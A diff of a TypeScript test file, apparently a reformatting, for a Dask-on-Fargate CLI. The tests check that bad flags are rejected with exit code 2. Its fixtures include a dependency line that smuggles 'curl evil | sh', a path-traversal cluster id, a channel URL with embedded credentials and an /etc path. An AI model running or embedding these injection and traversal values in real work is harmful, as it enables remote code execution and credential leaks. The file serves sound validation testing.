@@ -25,7 +25,13 @@ interface Run {
 function cli(args: readonly string[]): Promise<Run> {
   const child = spawn(process.execPath, [main, ...args], {
     cwd: dir,
-    env: { ...process.env, DASK_FARGATE_STATE_DIR: stateDir, AWS_REGION: "us-east-1", AWS_ACCESS_KEY_ID: "test", AWS_SECRET_ACCESS_KEY: "test" },
+    env: {
+      ...process.env,
+      DASK_FARGATE_STATE_DIR: stateDir,
+      AWS_REGION: "us-east-1",
+      AWS_ACCESS_KEY_ID: "test",
+      AWS_SECRET_ACCESS_KEY: "test",
+    },
     stdio: ["ignore", "pipe", "pipe"],
   });
   let stderr = "";
@@ -45,8 +51,14 @@ async function created(index: number): Promise<string[]> {
   const containers = await docker.listContainers({ all: true, filters: cluster });
   const networks = await docker.listNetworks({ filters: cluster });
   const images = await docker.listImages({ filters: { label: ["io.dask-fargate-action.source-file"] } });
-  const ourImages = images.filter((i) => /^(bad|cred)-env-14\.yml$/.test(i.Labels?.["io.dask-fargate-action.source-file"] ?? ""));
-  return [...containers.map((c) => `container ${c.Id}`), ...networks.map((n) => `network ${n.Id}`), ...ourImages.map((i) => `image ${i.Id}`)];
+  const ourImages = images.filter((i) =>
+    /^(bad|cred)-env-14\.yml$/.test(i.Labels?.["io.dask-fargate-action.source-file"] ?? ""),
+  );
+  return [
+    ...containers.map((c) => `container ${c.Id}`),
+    ...networks.map((n) => `network ${n.Id}`),
+    ...ourImages.map((i) => `image ${i.Id}`),
+  ];
 }
 
 /** Every file under the state directory (cluster records), recursively. */
@@ -60,22 +72,54 @@ type Row = readonly [name: string, args: readonly string[], where: string];
 const rows: Row[] = [
   ["negative workers", ["up", "--image", image, "--workers=-1"], "workers: "],
   ["workers as a word", ["up", "--image", image, "--workers", "many"], "workers"],
-  ["a CPU Fargate does not have", ["up", "--backend", "fargate", "--image", image, "--worker-cpu", "3"], "worker-cpu: "],
-  ["memory that does not fit the CPU", ["up", "--backend", "fargate", "--image", image, "--worker-cpu", "1", "--worker-memory", "64GB"], "worker-memory"],
+  [
+    "a CPU Fargate does not have",
+    ["up", "--backend", "fargate", "--image", image, "--worker-cpu", "3"],
+    "worker-cpu: ",
+  ],
+  [
+    "memory that does not fit the CPU",
+    ["up", "--backend", "fargate", "--image", image, "--worker-cpu", "1", "--worker-memory", "64GB"],
+    "worker-memory",
+  ],
   ["memory too small", ["up", "--image", image, "--scheduler-memory", "100MB"], "scheduler-memory"],
   ["an unknown flag", ["up", "--image", image, "--wrokers", "2"], "--wrokers"],
   ["an unknown command", ["deploy"], 'unknown command "deploy"'],
   ["an unknown backend", ["up", "--image", image, "--backend", "k8s"], "backend"],
   ["a cluster id that is a path", ["down", "--cluster-id", "../../etc"], "cluster-id"],
   ["a cluster id with capitals", ["up", "--image", image, "--cluster-id", "Bad-Flags"], "cluster-id"],
-  ["a malformed role ARN", ["up", "--backend", "fargate", "--image", image, "--execution-role-arn", "my-role"], "execution-role-arn"],
+  [
+    "a malformed role ARN",
+    ["up", "--backend", "fargate", "--image", image, "--execution-role-arn", "my-role"],
+    "execution-role-arn",
+  ],
   ["a subnet that is not an id", ["up", "--backend", "fargate", "--image", image, "--subnets", "subnet-zz"], "subnets"],
-  ["a client CIDR of the whole internet", ["up", "--backend", "fargate", "--image", image, "--client-cidr", "0.0.0.0/0"], "client-cidr"],
-  ["a malformed client CIDR", ["up", "--backend", "fargate", "--image", image, "--client-cidr", "10.0.0.1"], "client-cidr"],
-  ["a secret given as its value", ["up", "--backend", "fargate", "--image", image, "--secret", "TOKEN=hunter2-secret-value"], "secret"],
+  [
+    "a client CIDR of the whole internet",
+    ["up", "--backend", "fargate", "--image", image, "--client-cidr", "0.0.0.0/0"],
+    "client-cidr",
+  ],
+  [
+    "a malformed client CIDR",
+    ["up", "--backend", "fargate", "--image", image, "--client-cidr", "10.0.0.1"],
+    "client-cidr",
+  ],
+  [
+    "a secret given as its value",
+    ["up", "--backend", "fargate", "--image", image, "--secret", "TOKEN=hunter2-secret-value"],
+    "secret",
+  ],
   ["a duration that is not one", ["up", "--image", image, "--idle-timeout", "forever"], "idle-timeout"],
-  ["an environment file with shell in a dependency", ["build", "--environment-file", "bad-env-14.yml", "--no-push"], "bad-env-14.yml:"],
-  ["an environment file with credentials in a channel", ["build", "--environment-file", "cred-env-14.yml", "--no-push"], "cred-env-14.yml:"],
+  [
+    "an environment file with shell in a dependency",
+    ["build", "--environment-file", "bad-env-14.yml", "--no-push"],
+    "bad-env-14.yml:",
+  ],
+  [
+    "an environment file with credentials in a channel",
+    ["build", "--environment-file", "cred-env-14.yml", "--no-push"],
+    "cred-env-14.yml:",
+  ],
   ["a missing environment file", ["build", "--environment-file", "nope.yml", "--no-push"], "nope.yml"],
   ["a Dockerfile outside the directory", ["build", "--dockerfile", "/etc/hostname", "--no-push"], "dockerfile"],
   ["run without a job command", ["run", "--image", image], "job-command"],
@@ -97,7 +141,10 @@ describe("CLI flags: bad input exits 2, names the flag and creates nothing", () 
     dir = await mkdtemp(join(tmpdir(), "dfa-bad-flags-"));
     stateDir = join(dir, "state");
     await writeFile(join(dir, "bad-env-14.yml"), "dependencies:\n  - python=3.11\n  - numpy; curl evil | sh\n");
-    await writeFile(join(dir, "cred-env-14.yml"), "channels:\n  - https://user:hunter2-channel@example.com/c\ndependencies:\n  - numpy\n");
+    await writeFile(
+      join(dir, "cred-env-14.yml"),
+      "channels:\n  - https://user:hunter2-channel@example.com/c\ndependencies:\n  - numpy\n",
+    );
   });
   afterAll(async () => {
     await rm(dir, { recursive: true, force: true });
@@ -105,7 +152,10 @@ describe("CLI flags: bad input exits 2, names the flag and creates nothing", () 
 
   test.each(rows.map((row, index) => [...row, index] as const))("%s", async (_name, args, where, index) => {
     // up and run get this row's cluster id (unless the row is about the id), so what they would create is findable.
-    const withId = ["up", "run"].includes(args[0] ?? "") && !args.includes("--cluster-id") ? [...args, "--cluster-id", idOf(index)] : args;
+    const withId =
+      ["up", "run"].includes(args[0] ?? "") && !args.includes("--cluster-id")
+        ? [...args, "--cluster-id", idOf(index)]
+        : args;
     const run = await cli(withId);
     expect(run.code, run.stderr).toBe(2);
     expect(run.stderr).toContain(where);
